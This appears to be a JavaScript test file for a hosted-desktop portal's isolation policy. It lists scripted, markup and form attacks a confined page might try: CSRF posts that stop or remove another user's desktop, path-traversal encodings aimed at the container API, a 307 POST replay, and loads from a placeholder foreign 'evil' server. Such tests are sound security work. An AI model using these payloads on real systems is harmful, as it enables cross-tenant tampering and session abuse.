// Attacks that ask something of the gateway, of another desktop or of a foreign server, by script or by markup.

// A frame or form that the policy refuses may still make the browser connect ahead of the request that never comes.
const CONNECTS = { tolerates: /got: tcp connection$/ };
const LIST = '/api/container/list';
const page = (body, type = 'text/html') => ({ status: 200, headers: [['Content-Type', type]], body });

const byScript = [
  { name: 'fetch: list the desktops', attack: () => read('/api/container/list') },
  { name: 'fetch: who is signed in', attack: () => read('/session') },
  {
    name: 'fetch: stop the other desktop',
    attack: ({ otherId }) => read('/api/container/stop', { method: 'POST', body: JSON.stringify({ id: otherId }) }),
  },
  {
    name: 'fetch: remove the other desktop, a simple request without CORS',
    attack: ({ otherId }) => {
      const body = new Blob([JSON.stringify({ id: otherId })], { type: 'text/plain' });
      return read('/api/container/remove', { method: 'POST', mode: 'no-cors', body });
    },
  },
  { name: 'fetch: start a desktop', attack: () => read('/api/container/start', { method: 'POST', body: '{}' }) },
  { name: 'fetch: sign out', attack: () => read('/logout', { method: 'POST' }) },
  {
    name: 'fetch: keepalive while the page goes away',
    attack: () => {
      if (location.search) return 'the page is back';
      addEventListener('pagehide', () =>
        fetch('/api/container/start', { method: 'POST', body: '{}', keepalive: true }),
      );
      location.search = '?again';
      return late(500);
    },
  },
  {
    name: 'fetchLater',
    attack: () =>
      String(fetchLater('/api/container/start', { method: 'POST', body: '{}', activateAfter: 0 }).activated),
    settle: 800,
  },
  {
    name: 'fetch: in every disguise of the path',
    attack: async ({ own }) => {
      const up = ['..', '%2e%2e', '.%2E', '..%2f..', '..%5c..', '\\..\\..', '%2e%2e%2f%2e%2e', '..;', '%252e%252e'];
      const paths = up.flatMap((one) => [`${own}${one}/${one}/api/container/list`, `${own}${one}/api/container/list`]);
      paths.push(
        `${own}/../../api/container/list`,
        own.slice(0, -1),
        own.toUpperCase(),
        `${own}..//..//api/container/list`,
      );
      const all = await Promise.all(paths.map((path) => soon(read(path, { redirect: 'manual' }))));
      return all.map((text) => text.slice(0, 60)).join('; ');
    },
    // Some of these stay inside, where the gateway refuses them or the desktop may answer.
    settle: 500,
  },
  {
    name: 'XMLHttpRequest: list the desktops',
    attack: async () => {
      const ask = new XMLHttpRequest();
      ask.open('GET', '/api/container/list');
      const heard = event(ask, 'load', 'error');
      ask.send();
      return `${await heard}: ${ask.responseText}`;
    },
  },
  {
    name: 'XMLHttpRequest: synchronous POST',
    attack: ({ otherId }) => {
      const ask = new XMLHttpRequest();
      ask.open('POST', '/api/container/stop', false);
      ask.send(JSON.stringify({ id: otherId }));
      return ask.responseText;
    },
  },
  { name: 'sendBeacon', attack: () => String(navigator.sendBeacon('/api/container/start', '{}')) },
  {
    name: 'EventSource',
    attack: () => event(new EventSource('/api/container/list'), 'open', 'error'),
  },
  { name: 'WebSocket: the API’s events', attack: ({ host }) => socket(`wss://${host}/api/container/events`) },
  {
    name: 'WebSocket: the victim’s other desktop',
    attack: ({ host, other }) => socket(`wss://${host}${other}websockify`),
  },
  {
    name: 'WebSocket: another person’s desktop',
    attack: ({ host, foreign }) => socket(`wss://${host}${foreign}websockify`),
  },
  { name: 'WebSocket: a foreign server', attack: ({ evilHost }) => socket(`wss://${evilHost}/`) },
  {
    name: 'WebTransport: the portal and a foreign server',
    attack: async ({ host, evilHost }) => {
      const dial = (at) => soon(new WebTransport(`https://${at}/api/container/events`).ready, 700);
      return `${await dial(host)}; ${await dial(evilHost)}`;
    },
  },
  { name: 'fetch: the victim’s other desktop', attack: ({ other }) => read(other) },
  { name: 'fetch: another person’s desktop', attack: ({ foreign }) => read(foreign) },
  {
    name: 'fetch: the identity provider',
    attack: ({ provider }) => read(provider, { mode: 'no-cors' }),
    // Nobody watches the provider, and it answers nobody else.
    unconfined: 'varies',
  },
  { name: 'fetch: a foreign server', attack: ({ evil }) => read(evil) },
  {
    name: 'fetch: without credentials, so that the gateway might lead to the sign-in',
    attack: ({ own }) => read(`${own}x`, { credentials: 'omit', headers: { Accept: 'text/html' } }),
    // The gateway leads only a page in its own tab there.
    unconfined: 'fails',
  },
  { name: 'import(): a module of the portal', attack: async () => Object.keys(await import('/assets/home.js')).join() },
  { name: 'import(): a module of a foreign server', attack: async ({ evil }) => String(await import(`${evil}/x.js`)) },
  {
    name: 'import map that leads to a foreign server',
    html: ({ evil }) => `<script type="importmap">{"imports":{"x":"${evil}/x.js"}}</script>`,
    attack: async () => String(await import('x')),
  },
  {
    name: 'Cache API: add the list of desktops',
    attack: async () => (await caches.open('x')).add('/api/container/list'),
  },
  {
    name: 'WebAssembly compiled from the API',
    attack: () => WebAssembly.compileStreaming(fetch('/api/container/list')),
  },
];

/** One row for each way in which markup loads something, all aimed at the list of desktops. */
const byMarkup = [
  ['img', () => `<img src="${LIST}"><img srcset="${LIST} 1x"><picture><source srcset="${LIST}"><img></picture>`],
  ['script', () => `<script src="${LIST}"></script><script type="module" src="/assets/home.js"></script>`],
  ['stylesheet', () => `<link rel="stylesheet" href="${LIST}">`],
  ['CSS @import', () => `<style>@import url(${LIST});</style>`],
  [
    'CSS images, cursors and masks',
    () => `<style>body{background:url(${LIST}?a);cursor:url(${LIST}?b),auto;
    mask-image:url(${LIST}?c);border-image:url(${LIST}?d);content:image-set("${LIST}?e" 1x);list-style:url(${LIST}?f)}
    body::before{content:url(${LIST}?g)}</style>`,
  ],
  ['CSS font', () => `<style>@font-face{font-family:x;src:url(${LIST})}body{font-family:x}</style>text`],
  ['CSS of SVG filters', () => `<p style="filter:url(${LIST}#x);clip-path:url(${LIST}#y)">text</p>`],
  [
    'video, audio and track',
    () => `<video src="${LIST}" poster="${LIST}?p" autoplay><track default src="${LIST}?t"></video>
    <audio src="${LIST}?a" autoplay></audio>`,
  ],
  [
    'SVG image, use, feImage and script',
    () => `<svg><image href="${LIST}?i"/><use href="${LIST}?u#x"/>
    <filter id="f"><feImage href="${LIST}?f"/></filter><rect width="9" height="9" filter="url(#f)"/>
    <script href="${LIST}?s"></script></svg>`,
  ],
  ['input type=image and favicon', () => `<input type="image" src="${LIST}"><link rel="icon" href="${LIST}?icon">`],
  ['body background and table', () => `<table background="${LIST}"><td background="${LIST}?td">text</table>`],
  [
    'web app manifest',
    () => `<link rel="manifest" href="${LIST}" crossorigin="use-credentials">`,
    { unconfined: 'varies' },
  ],
  ['iframe', () => `<iframe src="${LIST}"></iframe>`],
  ['iframe without credentials', () => '<iframe credentialless src="/"></iframe>'],
  [
    'iframe without credentials, so that the gateway might lead to the sign-in',
    ({ own }) => `<iframe credentialless src="${own}x"></iframe>`,
    { unconfined: 'fails' },
  ],
  [
    'fenced frame',
    () => `<fencedframe></fencedframe><script>document.querySelector('fencedframe').config =
    window.FencedFrameConfig && new FencedFrameConfig('/')</script>`,
    { unconfined: 'varies' },
  ],
  ['object', () => `<object data="${LIST}"></object>`],
  ['embed', () => `<embed src="${LIST}"><embed type="application/pdf" src="${LIST}?pdf">`],
  ['a ping, clicked', ({ own }) => `<a id="x" href="#" ping="/api/container/start">x</a><script>x.click()</script>`],
  ['meta refresh in a frame', () => `<iframe srcdoc="<meta http-equiv=refresh content='0;url=${LIST}'>"></iframe>`],
  [
    'base that points to the portal',
    () => `<base href="/"><script src="assets/home.js"></script><img src="api/container/list">`,
  ],
  [
    'base that points to a foreign server',
    ({ evil }) => `<base href="${evil}/"><img src="x"><script src="x.js"></script>`,
  ],
  [
    'everything, at a foreign server',
    ({ evil }) => `<img src="${evil}/i"><script src="${evil}/s.js"></script>
    <link rel="stylesheet" href="${evil}/c"><iframe src="${evil}/f"></iframe><video src="${evil}/v"></video>
    <style>body{background:url(${evil}/b)}</style><object data="${evil}/o"></object>`,
    CONNECTS,
  ],
  [
    'the victim’s other desktop: img, script, iframe, object',
    ({ other }) => `<img src="${other}i">
    <script src="${other}s"></script><iframe src="${other}"></iframe><object data="${other}o"></object>`,
  ],
  [
    'another person’s desktop: img, script, iframe, object',
    ({ foreign }) => `<img src="${foreign}i">
    <script src="${foreign}s"></script><iframe src="${foreign}"></iframe><object data="${foreign}o"></object>`,
  ],
].map(([name, html, more]) => ({ name: `markup: ${name}`, html, settle: 400, ...more }));

const form = (name, attributes, fields = '<input name="id" value="x">', more = {}) => ({
  name: `form: ${name}`,
  html: (facts) =>
    `<iframe name="inside"></iframe><form ${attributes(facts)}>${fields}<button id="b">x</button></form>`,
  ...more,
  attack: () => {
    document.querySelector('form').requestSubmit(document.getElementById('b'));
    return late(300);
  },
});

const byForm = [
  form('POST to the API, in this tab', () => 'method="post" action="/api/container/stop"'),
  form(
    'POST to the API as JSON in text/plain, in a frame',
    () => 'method="post" enctype="text/plain" action="/api/container/stop" target="inside"',
    `<input name='{"id":"x","y":"' value='"}'>`,
  ),
  form('POST to sign out', () => 'method="post" action="/logout"', '<input name="csrf_token" value="guessed">'),
  form(
    'POST that starts a desktop in a new tab, as the start page does',
    () => 'method="post" action="/open" target="_blank"',
    '<input name="csrf_token" value="guessed"><input name="template" value="other">',
  ),
  form('GET of the portal, in a frame', () => 'action="/" target="inside"'),
  form('GET of the portal, in this tab', () => 'action="/"'),
  form('POST to the other desktop', ({ other }) => `method="post" action="${other}"`),
  form('POST to a foreign server', ({ evil }) => `method="post" action="${evil}/"`, undefined, CONNECTS),
  form('POST in a new window', () => 'method="post" action="/api/container/stop" target="_blank"'),
  {
    name: 'form: a button’s own address',
    html: () => '<form method="post" action="x"><button id="b" formaction="/api/container/start">x</button></form>',
    attack: () => document.getElementById('b').click(),
  },
  {
    name: 'form: a 307 that repeats the POST at the API',
    answers: ({ own }) => ({
      [`${own}hop`]: { status: 307, headers: [['Location', '/../../api/container/start']], body: '' },
      [`${own}api/container/start`]: page('inside'),
    }),
    html: ({ own }) => `<form method="post" action="${own}hop"><button id="b">x</button></form>`,
    attack: () => document.getElementById('b').click(),
  },
];

export const calls = [...byScript, ...byMarkup, ...byForm];
